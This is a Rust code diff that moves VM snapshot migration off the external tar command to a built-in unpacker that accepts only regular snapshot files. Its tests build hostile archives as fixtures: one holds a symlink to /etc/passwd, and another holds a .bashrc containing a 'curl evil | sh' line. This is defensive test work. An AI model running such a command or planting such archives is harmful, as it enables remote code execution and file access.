@@ -3,13 +3,13 @@
 //! Source: pause the VM and snapshot it (kept paused: nothing may change after the snapshot),
 //! pack the snapshot directory into a tar file and upload it to the server. Destination:
 //! download it, unpack it into the VM's state directory as a complete snapshot (temporary name,
-//! then rename), make the VM's disks and network attachment here, restore, re-address the
+//! then rename; the archive came from another node, so [`unpack`] writes regular files with
+//! the snapshot formats' names only, see `firefleet_vmm::archive`), make the VM's disks and network attachment here, restore, re-address the
 //! guest for this node's subnet, report. Each step finds the previous one's result on disk if
 //! it was done before a crash, so a repeated attempt carries on.
 
 use std::fs;
 use std::path::{Path, PathBuf};
-use std::process::Command;
 use std::time::Duration;
 
 use firefleet_api::{MigrationIntent, MigrationReport};
@@ -22,22 +22,6 @@ fn now_ms() -> u64 {
         .duration_since(std::time::UNIX_EPOCH)
         .map(|d| d.as_millis() as u64)
         .unwrap_or(0)
-}
-
-fn tar(args: &[&std::ffi::OsStr]) -> Result<(), String> {
-    let out = Command::new("tar")
-        .args(args)
-        .output()
-        .map_err(|e| format!("running tar: {e}"))?;
-    if out.status.success() {
-        Ok(())
-    } else {
-        Err(format!(
-            "tar failed ({}): {}",
-            out.status,
-            String::from_utf8_lossy(&out.stderr).trim()
-        ))
-    }
 }
 
 fn report(handle: &tokio::runtime::Handle, client: &Client, vm: &str, r: &MigrationReport) {
@@ -124,16 +108,53 @@ pub(crate) fn pack(vm_dir: &Path, name: &str) -> Result<PathBuf, String> {
     let archive = vm_dir.join(format!("{name}.tar"));
     if !archive.exists() {
         let part = archive.with_extension("tar.part");
-        tar(&[
-            "-C".as_ref(),
-            dir.as_os_str(),
-            "-cf".as_ref(),
-            part.as_os_str(),
-            ".".as_ref(),
-        ])?;
+        let packed = (|| {
+            let mut out = std::io::BufWriter::new(
+                fs::File::create(&part).map_err(|e| format!("{}: {e}", part.display()))?,
+            );
+            firefleet_vmm::archive::pack(&dir, &mut out, &firefleet_vmm::is_snapshot_file)
+                .map_err(|e| format!("packing: {}", firefleet_types::error_chain(&e)))?;
+            out.into_inner()
+                .map_err(|e| e.into_error())
+                .and_then(|f| f.sync_all())
+                .map_err(|e| format!("{}: {e}", part.display()))
+        })();
+        if let Err(e) = packed {
+            let _ = fs::remove_file(&part);
+            return Err(e);
+        }
         fs::rename(&part, &archive).map_err(|e| format!("{}: {e}", archive.display()))?;
     }
     Ok(archive)
+}
+
+/// The caps on unpacking a snapshot archive of `archive_bytes`: a snapshot holds at most a
+/// manifest, state, memory and one copy per disk (and `tar -cf - .` archives a `./` entry), and
+/// no file can hold more than the archive (sparse entries are refused), whose size the server
+/// bounded per VM at upload.
+fn unpack_limits(archive_bytes: u64) -> firefleet_vmm::archive::UnpackLimits {
+    firefleet_vmm::archive::UnpackLimits {
+        max_entries: 4 + firefleet_types::vm::MAX_DISKS,
+        max_entry_bytes: archive_bytes,
+        max_total_bytes: archive_bytes,
+    }
+}
+
+/// Unpacks the snapshot archive `archive` into the fresh directory `tmp`: regular files with
+/// the snapshot formats' names only (see [`firefleet_vmm::archive::unpack`]).
+pub(crate) fn unpack(archive: &Path, tmp: &Path) -> Result<u64, String> {
+    let file = fs::File::open(archive).map_err(|e| format!("{}: {e}", archive.display()))?;
+    let len = file
+        .metadata()
+        .map_err(|e| format!("{}: {e}", archive.display()))?
+        .len();
+    firefleet_vmm::archive::unpack(
+        std::io::BufReader::new(file),
+        tmp,
+        &firefleet_vmm::is_snapshot_file,
+        &unpack_limits(len),
+    )
+    .map_err(|e| format!("unpacking: {}", firefleet_types::error_chain(&e)))
 }
 
 /// Where a snapshot to unpack comes from.
@@ -177,13 +198,7 @@ pub(crate) fn receive(
         .map_err(|e| format!("download: {e}"))?;
     let tmp = snapshots.join(format!(".tmp-{name}-{}", std::process::id()));
     let _ = fs::remove_dir_all(&tmp);
-    fs::create_dir_all(&tmp).map_err(|e| format!("{}: {e}", tmp.display()))?;
-    let unpacked = tar(&[
-        "-C".as_ref(),
-        tmp.as_os_str(),
-        "-xf".as_ref(),
-        archive.as_os_str(),
-    ]);
+    let unpacked = unpack(&archive, &tmp);
     let _ = fs::remove_file(&archive);
     unpacked?;
     // Checked under its final name (QEMU's check refuses temporary names).
@@ -417,4 +432,72 @@ pub fn receive_live(
         Ok(resumed)
     })();
     conclude(handle, client, vm, result)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// `tar -C dir -cf archive .`, as agents packed snapshots before; `None` without tar.
+    fn tar_command(dir: &Path, archive: &Path) -> Option<()> {
+        std::process::Command::new("tar")
+            .arg("-C")
+            .arg(dir)
+            .arg("-cf")
+            .arg(archive)
+            .arg(".")
+            .status()
+            .ok()
+            .filter(|s| s.success())
+            .map(drop)
+    }
+
+    #[test]
+    fn a_packed_snapshot_unpacks_and_one_packed_by_tar_too() {
+        let tmp = tempfile::tempdir().unwrap();
+        let snap = tmp.path().join("snapshots").join("s1");
+        fs::create_dir_all(&snap).unwrap();
+        for f in ["vmstate", "memory", "disk0", "manifest.json"] {
+            fs::write(snap.join(f), f).unwrap();
+        }
+        let archive = pack(tmp.path(), "s1").unwrap();
+        let out = tmp.path().join("out");
+        assert_eq!(unpack(&archive, &out).unwrap(), 31);
+        assert_eq!(fs::read(out.join("disk0")).unwrap(), b"disk0");
+
+        let old = tmp.path().join("old.tar");
+        if tar_command(&snap, &old).is_some() {
+            let out = tmp.path().join("out-old");
+            assert_eq!(unpack(&old, &out).unwrap(), 31);
+        }
+    }
+
+    #[test]
+    fn an_archive_holding_a_link_is_refused_and_leaves_nothing() {
+        let tmp = tempfile::tempdir().unwrap();
+        let hostile = tmp.path().join("hostile");
+        fs::create_dir(&hostile).unwrap();
+        fs::write(hostile.join("vmstate"), b"x").unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", hostile.join("memory")).unwrap();
+        let archive = tmp.path().join("hostile.tar");
+        if tar_command(&hostile, &archive).is_none() {
+            eprintln!("no tar command: skipped");
+            return;
+        }
+        let out = tmp.path().join("out");
+        let e = unpack(&archive, &out).unwrap_err();
+        assert!(
+            e.contains("\"./memory\"") && e.contains("symbolic link"),
+            "{e}"
+        );
+        assert!(!out.exists());
+
+        // A name no snapshot format defines.
+        fs::remove_file(hostile.join("memory")).unwrap();
+        fs::write(hostile.join(".bashrc"), b"curl evil | sh").unwrap();
+        let archive = tmp.path().join("foreign.tar");
+        tar_command(&hostile, &archive).unwrap();
+        let e = unpack(&archive, &out).unwrap_err();
+        assert!(e.contains("\"./.bashrc\""), "{e}");
+    }
 }
